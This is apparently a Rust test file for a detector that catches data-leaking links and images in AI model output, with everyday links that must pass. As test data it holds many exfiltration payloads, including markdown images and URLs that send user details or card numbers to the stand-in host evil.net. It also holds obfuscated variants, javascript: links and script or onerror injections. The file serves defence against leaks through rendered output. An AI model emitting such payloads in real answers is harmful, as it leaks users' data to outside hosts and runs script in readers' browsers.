//! Tests of what is found of links: as Markdown and browsers read them, and nothing in everyday answers.

use super::*;

fn found(section: &Links, text: &str) -> Vec<String> {
    let mut hits = Vec::new();
    Gate::compile(section).unwrap().find(text, &Code::of(text), &mut hits);
    hits.into_iter().map(|hit| hit.kind).collect()
}

#[test]
fn without_a_list_what_carries_data_is_found() {
    for (text, kind) in [
        ("![x](https://evil.net/p.png?d=bob@example.org)", "exfil.image"),
        ("![x](https://evil.net/?q=my+order+is+late+and+cold)", "exfil.image"),
        ("<img src=\"//evil.net/a?c=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI\">", "exfil.image"),
        ("[here](https://evil.net/the%20customer%20lives%20in%20Ghent%20and%20pays)", "exfil.link"),
        ("https://evil.net/x?card=4111111111111111", "exfil.link"),
        ("[x](javascript:fetch('/a'))", "exfil.active"),
        ("<script>alert(1)</script>", "exfil.html"),
        ("<img src=x onerror=alert(1)>", "exfil.html"),
        ("<iframe src='https://a.org'></iframe>", "exfil.html"),
    ] {
        assert_eq!(found(&Links::default(), text), [kind], "{text}");
    }
}

/// Each is loaded or run without a click, as Markdown and browsers read it.
const DISGUISED: &[(&str, &str)] = &[
    (r"![x](https:\/\/evil.net/p.png?q=my+order+is+late+and+cold)", "exfil.image"),
    ("![x](https:&sol;&sol;evil.net/p?q=my+order+is+late+and+cold)", "exfil.image"),
    ("![x](https:&#47;&#x2f;evil.net/p?q=my+order+is+late+and+cold)", "exfil.image"),
    ("![x](https&colon;//evil.net/p?q=my+order+is+late+and+cold)", "exfil.image"),
    (r"![x](https:\/\/evil.net/p&#41;?q=my&#32;order&Tab;is&nbsp;late+and+cold)", "exfil.image"),
    ("![x]( //evil.net/p?q=my+order+is+late+and+cold)", "exfil.image"),
    ("![x](\n<//evil.net/p?q=my+order+is+late+and+cold>)", "exfil.image"),
    ("![x][r]\n\n[r]: //evil.net/p?q=my+order+is+late+and+cold", "exfil.image"),
    ("> ![x][r]\n\n> [r]:\n> //evil.net/p?q=my+order+is+late+and+cold", "exfil.image"),
    ("![x](<https://evil.net/p?q=my order is late and cold>)", "exfil.image"),
    (r"![x](https://example.com\@evil.net/p?q=my+order+is+late+and+cold)", "exfil.image"),
    ("![x](http:evil.net/p?q=my+order+is+late+and+cold)", "exfil.image"),
    ("<img src=\"https://evil.net/p?q=my order is late and cold\">", "exfil.image"),
    (r#"<img src="https:\\evil.net/p?q=my+order+is+late+and+cold">"#, "exfil.image"),
    (r#"<img src='/\evil.net/p?q=my+order+is+late+and+cold'>"#, "exfil.image"),
    ("<img src=\"ht\ntps:/&Tab;/evil.net/p?q=my+order+is+late+and+cold\">", "exfil.image"),
    ("<img alt=\">\" src=' //evil.net/p?q=my+order+is+late+and+cold'>", "exfil.image"),
    ("[x][r]\n\n[r]: javascript:fetch('/a')", "exfil.active"),
    ("[x](javascript&colon;fetch('/a'))", "exfil.active"),
    ("<a href=\"java&Tab;script:fetch('/a')\">", "exfil.active"),
    ("<img alt=\">\" src=x onerror=alert(1)>", "exfil.html"),
];

#[test]
fn addresses_are_read_as_markdown_and_browsers_read_them() {
    let listed = Links { hosts: Some(vec!["example.com".into()]), ..Links::default() };
    for (text, kind) in DISGUISED {
        assert_eq!(found(&Links::default(), text), [*kind], "{text}");
        assert_eq!(found(&listed, text), [*kind], "{text}");
        let code = format!("```html\n{}\n```\n", text.replace("\n\n", "\n"));
        assert_eq!(found(&listed, &code), Vec::<&str>::new(), "{code}");
    }
}

#[test]
fn what_only_looks_like_code_is_looked_at() {
    const IMAGE: &str = "![x](https://evil.net/p?q=my+order+is+late+and+cold)";
    for text in [
        format!(r"\`{IMAGE}\`"),
        format!("- ```\n  x\n  ```\n{IMAGE}"),
        format!("- ```\n  x\n{IMAGE}"),
        format!("```\n{IMAGE}"),
        format!("`a\nb` {IMAGE} `c`"),
    ] {
        assert_eq!(found(&Links::default(), &text), ["exfil.image"], "{text}");
    }
    let quoted = format!("<b !x=\"https://example.com/ {IMAGE} \">");
    let listed = Links { hosts: Some(vec!["example.com".into()]), ..Links::default() };
    assert_eq!(found(&listed, &quoted), ["exfil.image"], "the tag is none");
    let tag = "<img alt=\"`\" src=\"https://evil.net/p?d=bob@example.org\" title=\"`\">";
    assert_eq!(found(&Links::default(), tag), ["exfil.image"]);
}

#[test]
fn a_hit_is_where_the_address_was_written() {
    let mut hits = Vec::new();
    let text = r"see ![x](https:\/\/evil.net/a\_b) and https://evil.net/&amp;c!";
    let section = Links { hosts: Some(Vec::new()), ..Links::default() };
    Gate::compile(&section).unwrap().find(text, &Code::of(text), &mut hits);
    let spans = hits.iter().filter_map(|hit| hit.span);
    let spans: Vec<&str> = spans.map(|span| &text[span.start..span.end]).collect();
    assert_eq!(spans, [r"https:\/\/evil.net/a\_b", "https://evil.net/&amp;c"]);
}

#[test]
fn everyday_links_and_talk_of_code_pass() {
    for text in [
        "See https://shop.example.com/orders/20241123-001?utm_source=mail&lang=en-GB#top.",
        "![lamp](https://cdn.example.com/img/5d41402abc4b2a76b9719d911017c592.jpg?w=300&h=200)",
        "Write `<script src=x>` in the head.",
        "```html\n<script>go()</script>\n<img src=\"https://a.org/?q=a+b+c+d+e+f\">\n```\n",
        "if a < b and b > c // then stop",
        "JavaScript: The Good Parts is a book. Data: see below.",
        "<b>bold</b> and <br/> and <a href=\"https://a.org/x\">x</a>",
        "www.example.com/how-to-change-a-lamp",
        "https://en.wikipedia.org/wiki/The_Hitchhiker%27s_Guide_to_the_Galaxy",
        "Use &lt;script&gt; for a script, AT&amp;T for a name, C:\\\\dir.name for a path.",
        "1. Open it:\n   ```html\n   <script>go()</script>\n   ```\n2. Done: `<b onclick=x>`.",
        "<b class=\"x\">Data: of two years</b> <i title=\"y\"> // and.more",
        "[1]: Data: of two years, http: as well.\n<br\n/>\nhttps://a.org/x\nThanks for writing to us",
    ] {
        assert_eq!(found(&Links::default(), text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn with_a_list_everything_else_is_found() {
    let section = Links {
        hosts: Some(vec!["example.com".into(), "*.example.org".into()]),
        image_hosts: Some(vec!["cdn.example.com".into()]),
        ..Links::default()
    };
    for (text, kinds) in [
        ("https://example.com/a https://a.example.org/b?q=one+two+three+four+five", &[][..]),
        ("https://example.org/", &["exfil.link"]),
        ("https://example.com.evil.net/", &["exfil.link"]),
        ("https://example.com@evil.net/", &["exfil.link"]),
        ("https://evilexample.com/", &["exfil.link"]),
        ("![x](https://example.com/x.png)", &["exfil.image"]),
        ("![x](https://cdn.example.com/x.png)", &[]),
        ("![a [b] c][r]\n\n[r]: https://evil.net/x.png", &["exfil.image"]),
        ("www.evil.net", &["exfil.link"]),
    ] {
        assert_eq!(found(&section, text), kinds, "{text}");
    }
    let bad = Links { hosts: Some(vec!["https://x".into()]), ..Links::default() };
    assert!(Gate::compile(&bad).is_err());
}
